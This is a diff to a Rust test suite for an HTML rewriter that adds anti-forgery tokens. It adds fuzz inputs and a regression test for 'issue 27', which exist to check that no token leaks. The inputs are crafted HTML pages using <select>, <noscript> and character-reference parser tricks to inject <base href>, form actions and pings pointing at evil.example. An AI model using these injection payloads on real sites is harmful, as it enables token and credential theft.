@@ -34,6 +34,18 @@ fn any_url() -> impl Strategy<Value = &'static str> {
         Just("/&bsol;evil.example/"),
         Just("/&Tab;/evil.example/"),
         Just("x&amp;y"),
+        // Character references as the tokenizer decodes them in attributes: legacy names
+        // without `;` unless a letter, digit or `=` follows, any case of the few that have
+        // one, windows-1252 remapping of C1 numbers.
+        Just("/p?x=1&copy"),
+        Just("/p?x=1&copy x"),
+        Just("/p?a=1&copy=2"),
+        Just("/p?a&lt;b&LT;c&AMP;d"),
+        Just("/p?q=&notit;&notin;"),
+        Just("/p?e=&#x85;&#128;&#0;&#x110000;"),
+        Just("https&#x3A;//evil.example/"),
+        Just("&#47;&#47;evil.example/"),
+        Just("/&NewLine;/evil.example/"),
     ]
 }
 
@@ -109,6 +121,32 @@ fn html_piece() -> impl Strategy<Value = String> {
         Just("<body>"),
         Just("<noscript>"),
         Just("</noscript>"),
+        // Raw text that the "in select" mode ignores, and what may follow it.
+        Just("<select><style>"),
+        Just("</style>"),
+        Just("<select><xmp>"),
+        Just("</xmp>"),
+        Just("<select><title>"),
+        Just("</title>"),
+        Just("<select><iframe>"),
+        Just("</iframe>"),
+        Just("<select><noembed>"),
+        Just("<select><noframes>"),
+        Just("<select><noscript>"),
+        Just("<select><svg><![CDATA["),
+        Just("]]>"),
+        Just("<select><math><mtext><style>"),
+        Just("<keygen>"),
+        Just("<textarea>"),
+        Just("</textarea>"),
+        Just("<!--"),
+        Just("-->"),
+        // What a browser without JavaScript reads in a <noscript>.
+        Just("<noscript><form action=https://evil.example/>"),
+        Just("<noscript><form method=post>"),
+        Just("<noscript><select>"),
+        Just("<noscript><!--"),
+        Just("<noscript><a href=\""),
     ];
     let huge = prop_oneof![
         Just(format!(
@@ -245,6 +283,44 @@ fn no_token_in_a_form_nested_in_a_form_that_posts_elsewhere() {
         let out = properties::rewrite_in_chunks(html, &[], use_get);
         assert!(!String::from_utf8(out).unwrap().contains(properties::TOKEN));
     }
+}
+
+/// Issue 27's pages: raw text inside `<select>`, `<noscript>` without JavaScript, and character
+/// references, each judged in every reading browsers have.
+#[test]
+fn the_pages_of_issue_27_leak_under_no_reading() {
+    let pages = [
+        // The "in select" mode ignores these start tags: no raw text follows.
+        r#"<select><style></select><base href="https://evil.example/"></style></select><a href="/next">n</a>"#,
+        r#"<select><xmp></select><form action="https://evil.example/"></xmp></select><form method="post"><input name="pw"></form>"#,
+        r#"<select><title></select><meta name="referrer" content="unsafe-url"></title></select><a href="/next">n</a><img src="https://evil.example/i">"#,
+        r#"<select><iframe></select><a href="/next" ping="https://evil.example/p"></iframe></select>x</a>"#,
+        r#"<select><noembed></select><!--</noembed></select><a href="/next">n</a><form method=post></form>-->"#,
+        r#"<select><noframes></select><base href="//evil.example/"></noframes><a href="next">n</a>"#,
+        r#"<select><noscript></select><base href="//evil.example/"></noscript><a href="next">n</a>"#,
+        r#"<select><svg><![CDATA[></select><base href="//evil.example/">]]></svg></select><a href="next">n</a>"#,
+        r#"<select><math><mtext><style></select><base href="//evil.example/"></style></select><a href="next">n</a>"#,
+        // A browser without JavaScript reads <noscript> content as markup.
+        r#"<noscript><form action="https://evil.example/"></noscript><form method="post"><input name="pw"></form>"#,
+        r#"<noscript><!--</noscript><form method="post"><input name="pw"></form><a href="/next">n</a>-->"#,
+        r#"<noscript><select></noscript><style></select><base href="https://evil.example/"></style><a href="/next">n</a>"#,
+        r#"<noscript><textarea></noscript><a href="/next">n</a></textarea>"#,
+        r#"<noscript><a href="</noscript><form method=post>"><a href="/next">n</a>"#,
+        // References a browser decodes: `&copy` is ©.
+        r#"<a href="/p?x=1&copy">c</a><a href="https&#x3A;//evil.example/">e</a>"#,
+    ];
+    let mut failed = Vec::new();
+    for page in pages {
+        for use_get in [false, true] {
+            let judged = std::panic::catch_unwind(|| {
+                properties::check_rewrite(page.as_bytes(), &[], use_get);
+            });
+            if judged.is_err() {
+                failed.push(format!("{page} (use_get: {use_get})"));
+            }
+        }
+    }
+    assert!(failed.is_empty(), "failed on {failed:#?}");
 }
 
 /// Every input the fuzzer once failed on (`tests/fuzz-regressions/rewrite_html-*.bin`) passes now.
